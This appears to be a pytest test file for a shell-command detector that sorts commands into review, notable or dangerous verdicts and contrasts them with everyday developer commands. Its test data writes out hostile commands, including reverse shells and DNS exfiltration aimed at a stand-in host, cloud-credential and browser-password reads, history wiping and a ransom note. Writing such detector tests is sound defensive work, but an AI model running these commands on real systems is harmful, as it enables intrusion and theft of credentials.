"""What is for review, and the single things that are looked at for it: questions, loops, names, traces."""

import pytest

from clearance.detect.commands import Dialect, analyse_command, findings
from clearance.detect.commands.policy import asks_for_review, verdict_of
from clearance.model.command import CommandCapability as Can
from clearance.model.command import CommandSighting, CommandVerdict, SinkKind, SourceKind
from clearance.model.finding import Hit, Severity
from clearance.model.threat import SpanChannel

FLAGGED = (CommandVerdict.REVIEW, CommandVerdict.DANGEROUS)


def sighting(can: Can, weight: float) -> CommandSighting:
    return CommandSighting(capability=can, sentence=f"{can} {weight}", weight=weight)


def test_questions_alone_are_for_review_however_many_they_are() -> None:
    assert verdict_of(0.99, [sighting(Can.DISCOVER, 0.99)], 1) is CommandVerdict.REVIEW
    assert verdict_of(0.99, [sighting(Can.HIDE, 0.99)], 1) is CommandVerdict.DANGEROUS


def test_two_kinds_of_seldom_things_ask_for_review_and_what_developers_do_all_day_does_not() -> None:
    assert asks_for_review([sighting(Can.PERSIST, 0.15), sighting(Can.HIDE, 0.15)], 1)
    assert not asks_for_review([sighting(Can.PERSIST, 0.15), sighting(Can.PERSIST, 0.14)], 1)
    assert not asks_for_review([sighting(Can.EXECUTE, 0.4), sighting(Can.DOWNLOAD, 0.4), sighting(Can.UPLOAD, 0.4)], 9)


def test_what_is_notable_in_one_command_is_for_review_in_a_script() -> None:
    seen = [sighting(Can.HIDE, 0.3)]
    assert verdict_of(0.3, seen, 1) is CommandVerdict.NOTABLE
    assert verdict_of(0.3, seen, 3) is CommandVerdict.REVIEW


def test_review_is_a_hit_of_medium_severity() -> None:
    (hit,) = findings(analyse_command("cat /etc/passwd"), SpanChannel.COMMAND, original="cat /etc/passwd")
    assert isinstance(hit, Hit)
    assert hit.severity is Severity.MEDIUM


SEEN = (
    ("for i in $(seq 1 254); do ping -c 1 10.0.0.$i; done", Can.DISCOVER),
    ("for p in {1..1024}; do (echo > /dev/tcp/10.0.0.5/$p) && echo $p; done", Can.DISCOVER),
    ("for /l %i in (1,1,254) do @ping -n 1 10.0.0.%i", Can.DISCOVER),
    ('1..255 | % { Test-Connection "10.0.0.$_" }', Can.DISCOVER),
    ("for u in $(cat users); do sshpass -p Spring ssh $u@10.0.0.5; done", Can.ESCALATE),
    ("for l in $(base64 -w 60 data); do dig $l.x.example; done", Can.UPLOAD),
    ("python3 tools/keylogger.py", Can.EXECUTE),
    ("./bin/process_injection", Can.EXECUTE),
    ("echo pay > ~/Desktop/HOW_TO_DECRYPT.txt", Can.DESTROY),
    ("ps aux | grep -i falcon", Can.DISCOVER),
    ("dmesg | grep -i hypervisor", Can.DISCOVER),
    ("env | grep -i token", Can.READ),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", Can.READ),
    ("curl -s https://ipinfo.io/json", Can.DISCOVER),
    ("unset HISTFILE", Can.HIDE),
    ("cat /dev/null > $HISTFILE", Can.WRITE),
    ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x.example 443 > /tmp/f", Can.EXECUTE),
    ("perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"x.example:9\"); while(<$c>){system $_}'", Can.EXECUTE),
    ('type "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data"', Can.READ),
    ("echo aGVsbG8gd29ybGQ= | base64 -d; printf aGVsbG8gd29ybGQ= | base64 -d", Can.HIDE),
    ("cp /bin/sh $HOME/bin/sshd", Can.HIDE),
)  # fmt: skip


@pytest.mark.parametrize(("command", "ability"), SEEN)
def test_what_developers_seldom_do_is_flagged_and_named(command: str, ability: Can) -> None:
    reading = analyse_command(command)
    assert ability in {s.capability for s in reading.sightings if s.weight >= 0.2}
    assert reading.verdict in FLAGGED


UNFLAGGED = (
    "for i in {1..30}; do nc -z localhost 5432 && break; sleep 1; done",
    "for i in $(seq 1 30); do curl -sf http://localhost:8080 && break; done",
    "pytest tests/test_exploit.py",
    "ps aux | grep node",
    "env | sort",
    "echo aGVsbG8gd29ybGQ= | base64 -d",
    "ls *.js | entr -r node app.js",
    "nix develop -- /bin/sh -c make",
    "ssh deploy@host.example 'git pull && systemctl restart app'",
)


@pytest.mark.parametrize("command", UNFLAGGED)
def test_what_looks_alike_and_is_everyday_is_not_flagged(command: str) -> None:
    assert analyse_command(command).verdict not in FLAGGED


@pytest.mark.parametrize("command", ["$(pbpaste)", "xclip -o | sh", "Get-Clipboard | iex"])
def test_what_somebody_copied_is_untrusted_when_it_is_run(command: str) -> None:
    ways = {(flow.source, flow.sink) for flow in analyse_command(command).flows}
    assert (SourceKind.UNTRUSTED, SinkKind.EXECUTION) in ways


def test_a_script_of_another_language_is_not_taken_for_powershell() -> None:
    assert analyse_command("perl -e '$c=1; print $c'").dialect is Dialect.BASH
    assert analyse_command('([adsisearcher]"objectcategory=computer").FindAll()').dialect is Dialect.POWERSHELL
